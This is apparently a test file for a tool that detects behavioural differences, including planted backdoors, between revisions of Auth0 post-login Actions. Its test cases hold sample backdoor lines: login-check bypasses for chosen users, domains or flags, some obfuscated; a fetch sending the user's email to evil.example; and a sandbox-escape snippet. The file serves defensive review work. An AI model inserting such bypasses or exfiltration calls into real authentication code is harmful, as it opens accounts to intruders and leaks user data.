import { describe, expect, it } from "vitest";
import { differentialOf } from "../../../review/actions/differential.ts";
import { bundleActions } from "../../../rules/actions/bundle.ts";
import { AUDIENCE } from "../../support/audience.ts";
import { examplePolicy } from "../support/example-policy.ts";

const actions = (await bundleActions(examplePolicy, AUDIENCE)).filter(
  ({ trigger }) => trigger === "post-login",
);
const before = actions.map(({ code }) => code);

/** The Actions with a statement at the beginning of what one of them does at a login. */
function withStatement(statement: string, key = "access-token-scopes"): string[] {
  return actions.map(({ key: own, code }) => {
    if (own !== key) return code;
    const other = code.replace(
      /failClosed\((async )?\(event, api\) => \{/,
      `$& ${statement.replaceAll("$", "$$$$")}`,
    );
    if (other === code) throw new Error(`no handler in ${key}`);
    return other;
  });
}

const compare = (after: readonly string[]) =>
  differentialOf("post-login", before, after, { policy: examplePolicy, audience: AUDIENCE });

/** Whom a difference is about, and what is otherwise for them: conditions, then effects. */
const found = (after: readonly string[]): string[] =>
  compare(after).differences.map(({ people, through, occasions, conditions, effects }) => {
    const whom = [...people, ...through, ...occasions];
    const where = conditions.map(({ path, values: [value] }) => `${path}=${value ?? "absent"}`);
    return [...whom, ...where, ...new Set(effects.map(({ kind }) => kind))].join(" ");
  });

describe("Actions of two revisions, asked about made-up events", () => {
  it("come out the same when they do the same", () => {
    const renamed = actions.map(({ code }) => code.replaceAll("personOf", "whoIs"));
    const { events, differences, fault } = compare(renamed);
    expect({ differences, fault }).toEqual({ differences: [], fault: null });
    expect(events).toBeGreaterThan(500);
  });

  const backdoors: [what: string, statement: string, difference: string][] = [
    ["one person", 'if (event.user.user_id === "auth0|x") return;', 'user.user_id="auth0|x" keeps'],
    [
      "one of several people",
      'if (new Set(["google-oauth2|7"]).has(event.user.user_id)) return;',
      'user.user_id="google-oauth2|7" keeps',
    ],
    [
      "a domain",
      'if (event.user.email?.endsWith("@evil.example")) return;',
      'user.email="person@evil.example" keeps',
    ],
    [
      "a domain that is put together when it runs",
      'if (event.user.email?.endsWith(["@ev", "il.example"].join(""))) return;',
      'user.email="person@evil.example" keeps',
    ],
    [
      "a name by its letters' codes",
      "if (event.user.nickname === String.fromCharCode(101, 118, 101)) return;",
      'user.nickname="eve" keeps',
    ],
    [
      "a flag of the metadata",
      "if (event.user.app_metadata?.vip) return;",
      "user.app_metadata.vip=true keeps",
    ],
    [
      "a flag and a country",
      'if (event.user.app_metadata?.tier === "gold" && event.request.geoip.countryCode === "KP") return;',
      'user.app_metadata.tier="gold" request.geoip.countryCode="KP" keeps',
    ],
    [
      "a connection, by a switch",
      'switch (event.connection?.strategy) { case "samlp": return; default: }',
      'connection.strategy="samlp" keeps',
    ],
    [
      "a query of the request",
      'if (event.request?.query?.debug === "1") return;',
      'request.query.debug="1" keeps',
    ],
    ["frequent visitors", "if (event.stats.logins_count > 90) return;", "stats.logins_count=91 keeps"],
    [
      "a weekday",
      "if (new Date().getUTCDay() === 6) return;",
      "the time=2026-06-06 10:00 UTC, a Saturday keeps",
    ],
    [
      "a time to come",
      'if (Date.now() > Date.parse("2027-01-01")) return;',
      "the time=2027-01-01 00:00 UTC, a Friday keeps",
    ],
    ["requests that name no scope", "if (!event.transaction?.requested_scopes) return;", "refresh keeps"],
    ["chance", "if (Math.random() < 0.001) return;", "Math.random=0 keeps uses"],
    ["a claim", 'api.idToken.setCustomClaim("https://x.example/roles", ["Manager"]);', "claim"],
    [
      "a page elsewhere",
      'if (event.user.email_verified === false) api.redirect.sendUserTo("https://evil.example");',
      "user.email_verified=false calls",
    ],
    ["the network", "fetch('https://evil.example/' + event.user.email);", "uses"],
    [
      "a digest, whatever it is compared with",
      'if (require("crypto").createHash("md5").update(event.user.email).digest("hex") === "0cc175b9c0f1b6a831c399e269772661") return;',
      "uses",
    ],
    [
      "something that is kept between logins",
      "globalThis.count = (globalThis.count ?? 0) + 1; if (globalThis.count % 5 === 0) return;",
      "unsteady",
    ],
  ];
  it.each(backdoors)("differ for %s", (_, statement, difference) => {
    expect(found(withStatement(statement))).toContain(difference);
  });

  it("differ where somebody is no longer denied", () => {
    expect(found(withStatement('if (event.request?.query?.debug === "1") return;', "pkce"))).toEqual([
      'Timesheets Mobile login without PKCE request.query.debug="1" admitted',
    ]);
  });

  it("differ where somebody has less", () => {
    const denied = 'if (event.user.email === "eve@example.com") { api.access.deny("no"); return; }';
    const { differences } = compare(withStatement(denied));
    expect(differences.map(({ conditions, effects }) => [conditions, effects])).toEqual([
      [[{ path: "user.email", values: ['"eve@example.com"'] }], [{ kind: "denied", what: "", value: "no" }]],
    ]);
  });

  it("give the same answer each time", () => {
    const after = withStatement('if (event.user.email?.endsWith("@evil.example")) return;');
    const first = compare(after);
    compare(before);
    expect(compare(after)).toEqual(first);
  });

  it("are told not to end, when they don't", () => {
    const { fault } = compare(withStatement('if (event.user.nickname === "zz") for (;;);'));
    expect(fault).toContain("timed out");
  });

  it("have nothing of the review's in their hands", () => {
    const outwards = 'event.constructor.constructor("return process")().exit(7);';
    expect(found(withStatement(outwards)).length).toBeGreaterThan(0);
  });
});
